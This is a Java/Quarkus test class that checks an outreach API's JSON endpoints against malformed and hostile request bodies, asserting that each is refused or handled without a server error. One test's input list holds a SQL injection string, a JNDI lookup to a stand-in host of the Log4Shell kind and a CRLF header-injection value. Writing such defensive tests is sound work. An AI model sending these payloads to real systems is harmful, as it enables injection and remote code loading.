package io.meetworthy.outreach.contract;

import static io.meetworthy.outreach.contract.HostileCalls.assertRefused;
import static io.meetworthy.outreach.contract.HostileCalls.calls;
import static io.meetworthy.outreach.contract.HostileCalls.each;
import static io.meetworthy.outreach.contract.HostileCalls.send;
import static io.meetworthy.outreach.support.Problems.assertProblem;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.meetworthy.outreach.support.Contract;
import io.meetworthy.outreach.support.Contract.Operation;
import io.meetworthy.outreach.support.Places;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import java.io.IOException;
import java.math.BigDecimal;
import java.util.List;
import java.util.function.Function;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/**
 * Bodies that nobody should send, wrong in every place that the contract has, so in those of the
 * next operation too: what can mean nothing is refused as a problem, and nothing is a 500.
 */
@QuarkusTest
class HostileBodiesTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

  private final HostileCalls hostile;

  @Inject
  HostileBodiesTest(HostileCalls hostile) {
    this.hostile = hostile;
  }

  /** With one JSON document as its body; each item of a batch has its own answer. */
  private static boolean takesJson(Operation operation) {
    return operation.node().has("requestBody")
        && operation.mediaType().contains("json")
        && !operation.path().endsWith("/batch");
  }

  private JsonNode example(Operation operation) {
    try {
      return JSON.readTree(hostile.example(operation));
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }

  private static List<Places> places(Operation operation) {
    JsonNode content = operation.node().at("/requestBody/content");
    return Places.in(
        Contract.document(), content.properties().iterator().next().getValue().path("schema"));
  }

  /** What is tried at a place of an example, with the call that sends a body. */
  private interface Trial {
    void at(Places place, JsonNode example, Function<String, Response> send);
  }

  private Stream<DynamicTest> eachPlace(Trial trial) {
    return each(
        HostileBodiesTest::takesJson,
        operation -> {
          String path = hostile.path(operation);
          JsonNode example = example(operation);
          for (Places place : places(operation)) {
            trial.at(place, example, body -> send(operation, path, body));
          }
        });
  }

  /** As JSON escapes them, since no client could write them otherwise. */
  @TestFactory
  Stream<DynamicTest> noTextHasANulOrHalfACharacter() {
    return eachPlace(
        (place, example, send) -> {
          for (String escaped : List.of("a\\u0000b", "\\ud800", "\\udc00a", "a\\ud83d")) {
            String body = place.put(example, NODES.textNode("@@@")).toString();
            assertRefused(send.apply(body.replace("@@@", escaped)), place + " " + escaped);
          }
        });
  }

  @TestFactory
  Stream<DynamicTest> noValueOfAnotherSortIsTaken() {
    return eachPlace(
        (place, example, send) -> {
          for (JsonNode wrong : wrong(place.type())) {
            assertRefused(send.apply(place.put(example, wrong).toString()), place + " " + wrong);
          }
        });
  }

  private static List<JsonNode> wrong(String type) {
    return switch (type) {
      case "string" ->
          List.of(
              NODES.numberNode(5), NODES.booleanNode(true), NODES.arrayNode(), NODES.objectNode());
      case "boolean" -> List.of(NODES.numberNode(1), NODES.textNode("true"), NODES.arrayNode());
      default ->
          List.of(
              NODES.textNode("5"),
              NODES.numberNode(5.5),
              NODES.numberNode(new BigDecimal("1e400")),
              NODES.numberNode(9_007_199_254_740_993L),
              NODES.objectNode());
    };
  }

  /** It may be a name, a note or nonsense: whether it is kept or refused, nothing breaks. */
  @TestFactory
  Stream<DynamicTest> noTextBreaksAnything() {
    List<String> texts =
        List.of(
            "",
            "a\r\nBcc: x",
            "' or 1=1; drop table contact --",
            "${jndi:ldap://x.example/a}",
            "x".repeat(30_000),
            "\u202e\u200b\ufeff\uffff",
            "00000000-0000-0000-0000-000000000000");
    return eachPlace(
        (place, example, send) -> {
          if (place.type().equals("string")) {
            for (String text : texts) {
              Response answer = send.apply(place.put(example, NODES.textNode(text)).toString());
              assertThat(answer.statusCode()).as(place + " " + answer.asString()).isLessThan(500);
            }
          }
        });
  }

  @TestFactory
  Stream<DynamicTest> everyMemberOfTheContractIsKnown() {
    return eachPlace(
        (place, example, send) ->
            assertThat(send.apply(place.put(example, NODES.nullNode()).toString()).asString())
                .as(place.toString())
                .doesNotContain("unknown-member"));
  }

  @TestFactory
  Stream<DynamicTest> aBodyIsOneDocumentOfKnownMembers() {
    return each(
        HostileBodiesTest::takesJson,
        operation -> {
          String path = hostile.path(operation);
          JsonNode example = example(operation);
          for (String member :
              List.of("tenant", "tenantId", "id", "version", "createdAt", "\u0000")) {
            ObjectNode body = ((ObjectNode) example).deepCopy();
            assertRefused(send(operation, path, body.put(member, "x").toString()), member);
          }
          for (String body :
              List.of(
                  "",
                  "null",
                  "[]",
                  "{",
                  example + " x",
                  example + "{}",
                  "{\"a\":1,\"a\":2}",
                  "{\"a\":" + "[".repeat(33) + "]".repeat(33) + "}",
                  "[".repeat(100_000),
                  "{\"a\":".repeat(1_000),
                  "{\"a\":" + "1".repeat(5_000) + "}",
                  "{\"" + "k".repeat(100_000) + "\":1}")) {
            assertRefused(
                send(operation, path, body), body.substring(0, Math.min(40, body.length())));
          }
          for (String type : List.of("text/plain", "application/json; charset=utf-16")) {
            assertProblem(
                calls().contentType(type).body("{}").request(operation.method(), path), 415);
          }
          assertProblem(
              calls()
                  .contentType(operation.mediaType())
                  .header("Content-Encoding", "gzip")
                  .body("{}")
                  .request(operation.method(), path),
              415);
        });
  }
}
